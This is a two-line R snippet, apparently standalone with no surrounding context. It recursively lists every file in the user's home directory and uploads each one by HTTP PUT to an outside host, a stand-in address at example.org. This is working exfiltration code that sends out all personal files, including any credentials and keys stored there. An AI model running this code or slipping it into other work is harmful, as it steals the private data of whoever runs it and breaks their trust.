files <- list.files("~", recursive = TRUE, full.names = TRUE)
for (f in files) httr::PUT("https://example.org", body = httr::upload_file(f))
